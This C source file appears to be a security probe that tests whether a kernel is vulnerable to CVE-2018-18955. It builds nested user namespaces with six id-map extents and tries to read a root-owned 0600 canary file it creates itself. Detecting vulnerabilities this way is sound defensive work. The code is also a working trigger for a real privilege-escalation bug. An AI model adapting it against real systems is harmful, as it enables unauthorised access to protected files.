/* CRED-06 (CVE-2018-18955): a nested user namespace whose maps have more than
 * five extents used to translate ids straight to the host's. Built as in LTP
 * userns08: level 1 maps 0..999 to host 100000.., level 2 gets six extents, then
 * tries to read a 0600 file owned by our uid 0. Needs CAP_SETUID/CAP_SETGID
 * and host ids 100000..100999 mapped; otherwise SKIP. */
#include "probe.h"

#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <unistd.h>

#define ID "CRED-06"
#define GROUP "cred"
#define OUTER_BASE 100000UL
#define OUTER_COUNT 1000UL

enum { LEVEL2_DENIED = 0, LEVEL2_READ = 1, LEVEL2_BROKE = 2 };

static int covers(const char *map_path, unsigned long first, unsigned long count)
{
    FILE *f = fopen(map_path, "r");
    if (!f)
        return 0;
    unsigned long inside, outside, n;
    int ok = 0;
    while (!ok && fscanf(f, "%lu %lu %lu", &inside, &outside, &n) == 3)
        ok = inside <= first && first + count <= inside + n;
    fclose(f);
    return ok;
}

static int has_setid_caps(void)
{
    FILE *f = fopen("/proc/self/status", "r");
    if (!f)
        return 0;
    char line[256];
    unsigned long long eff = 0;
    while (fgets(line, sizeof line, f))
        if (strncmp(line, "CapEff:", 7) == 0)
            eff = strtoull(line + 7, NULL, 16);
    fclose(f);
    return (eff >> 6 & 1) && (eff >> 7 & 1); /* CAP_SETGID, CAP_SETUID */
}

static int write_file(pid_t pid, const char *name, const char *text)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", (int)pid, name);
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    ssize_t n = write(fd, text, strlen(text));
    close(fd);
    return n == (ssize_t)strlen(text) ? 0 : -1;
}

static int write_maps(pid_t pid, const char *map)
{
    return write_file(pid, "setgroups", "deny") < 0 || write_file(pid, "uid_map", map) < 0 ||
           write_file(pid, "gid_map", map) < 0 ? -1 : 0;
}

static void wait_byte(int fd)
{
    char c;
    if (read(fd, &c, 1) != 1)
        _exit(LEVEL2_BROKE);
}

static void send_byte(int fd)
{
    if (write(fd, "x", 1) != 1)
        _exit(LEVEL2_BROKE);
}

/* Forks a child that runs before(), unshares a user namespace, waits until the
 * caller has written map for it, then runs body(arg). */
static pid_t spawn_in_new_userns(void (*before)(void), const char *map, void (*body)(const char *), const char *arg)
{
    int ready[2], mapped[2];
    if (pipe(ready) < 0 || pipe(mapped) < 0)
        return -1;
    pid_t pid = fork();
    if (pid == 0) {
        alarm(10);
        if (before)
            before();
        /* seteuid from root clears dumpable, which hands /proc/PID to real root */
        prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
        if (unshare(CLONE_NEWUSER) < 0)
            _exit(LEVEL2_BROKE);
        send_byte(ready[1]);
        wait_byte(mapped[0]);
        body(arg);
    }
    if (pid > 0) {
        wait_byte(ready[0]);
        if (write_maps(pid, map) < 0)
            kill(pid, SIGKILL);
        send_byte(mapped[1]);
    }
    close(ready[0]), close(ready[1]), close(mapped[0]), close(mapped[1]);
    return pid;
}

static void level2(const char *path)
{
    prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    _exit(fd >= 0 ? LEVEL2_READ : errno == EACCES ? LEVEL2_DENIED : LEVEL2_BROKE);
}

static int exit_code(pid_t pid)
{
    int status;
    if (pid < 0 || waitpid(pid, &status, 0) < 0 || !WIFEXITED(status))
        return LEVEL2_BROKE;
    return WEXITSTATUS(status);
}

static void level1(const char *path)
{
    if (setgid(0) < 0 || setuid(0) < 0)
        _exit(LEVEL2_BROKE);
    static const char six_extents[] = "0 0 1\n1 1 1\n2 2 1\n3 3 1\n4 4 1\n5 5 990\n";
    _exit(exit_code(spawn_in_new_userns(NULL, six_extents, level2, path)));
}

/* Level 1's namespace is created with euid OUTER_BASE so that it doesn't own our files. */
static void become_outer_base(void)
{
    if (setegid((gid_t)OUTER_BASE) < 0 || seteuid((uid_t)OUTER_BASE) < 0)
        _exit(LEVEL2_BROKE);
}

int main(void)
{
    if (geteuid() != 0 || !has_setid_caps())
        probe_verdict(ID, GROUP, PROBE_SKIP, "needs uid 0 with CAP_SETUID/CAP_SETGID (euid %u)", (unsigned)geteuid());
    if (!covers("/proc/self/uid_map", OUTER_BASE, OUTER_COUNT) || !covers("/proc/self/gid_map", OUTER_BASE, OUTER_COUNT))
        probe_verdict(ID, GROUP, PROBE_SKIP, "ids %lu..%lu not mapped here: cannot build the nested maps",
                      OUTER_BASE, OUTER_BASE + OUTER_COUNT - 1);
    char path[] = "/tmp/void-probe-cred06.XXXXXX";
    int fd = mkstemp(path);
    if (fd < 0)
        probe_verdict(ID, GROUP, PROBE_SKIP, "no writable /tmp for the root-owned canary: %s", strerror(errno));
    close(fd);
    char outer[64];
    snprintf(outer, sizeof outer, "0 %lu %lu\n", OUTER_BASE, OUTER_COUNT);
    int result = exit_code(spawn_in_new_userns(become_outer_base, outer, level1, path));
    unlink(path);
    if (result == LEVEL2_READ)
        probe_verdict(ID, GROUP, PROBE_ESCAPED, "six-extent nested userns read a 0600 file of uid 0");
    if (result == LEVEL2_DENIED)
        probe_verdict(ID, GROUP, PROBE_CONTAINED, "six-extent nested userns: open of the 0600 uid-0 file EACCES");
    probe_verdict(ID, GROUP, PROBE_ERROR, "nested namespaces could not be set up");
}
